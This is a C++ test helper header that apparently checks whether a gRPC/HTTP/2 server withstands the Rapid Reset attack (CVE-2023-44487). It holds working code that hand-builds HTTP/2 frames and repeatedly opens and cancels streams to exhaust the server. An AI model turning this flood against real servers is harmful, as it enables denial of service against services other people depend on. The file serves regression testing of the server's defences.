// Starts HTTP/2 calls and resets each at once, as in CVE-2023-44487.
#pragma once

#include <cstdint>
#include <string>

#include "tests/support/raw_socket.hpp"

namespace muster::test {

class rapid_resets {
 public:
  explicit rapid_resets(std::string const& address)
      : wire_(port_of(address), {.seconds = 20}),
        connected_(wire_.send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, ""))) {}

  bool connected() const { return connected_; }
  /// Returns false if the connection was closed.
  bool begin_and_reset(std::string const& method, int times) {
    std::string all;
    for (int i = 0; i < times; ++i, stream_ += 2) {
      all += frame(1, 4, stream_, head(method));                 // HEADERS with END_HEADERS
      all += frame(0, 0, stream_, std::string(5, '\0'));         // DATA: an empty message
      all += frame(3, 0, stream_, std::string("\0\0\0\x8", 4));  // RST_STREAM: CANCEL
    }
    return wire_.send(all);
  }
  /// Returns true if the server closes the connection within 20 s.
  bool ends() { return wire_.ends(); }
  /// Returns false if the server answers a ping.
  bool is_cut() {
    auto const answer = frame(6, 1, 0, "12345678");
    return !wire_.send(frame(6, 0, 0, "12345678")) ||
           wire_.receive_until(answer).find(answer) == std::string::npos;
  }

 private:
  static std::string frame(char type, char flags, std::uint32_t stream, std::string const& body) {
    auto const byte = [](std::size_t n) { return static_cast<char>(n & 0xff); };
    std::string f{0, byte(body.size() >> 8), byte(body.size()), type, flags};
    for (int shift = 24; shift >= 0; shift -= 8) f += byte(stream >> shift);
    return f + body;
  }
  // Encodes the header without a dynamic table.
  static std::string head(std::string const& method) {
    auto const text = [](std::string const& t) { return static_cast<char>(t.size()) + t; };
    return "\x83\x86\x04" + text(method) + "\x01" + text("localhost") + "\x0f\x10" +
           text("application/grpc") + std::string(1, '\0') + text("te") + text("trailers");
  }

  raw_socket wire_;
  bool const connected_;
  std::uint32_t stream_ = 1;
};

}  // namespace muster::test
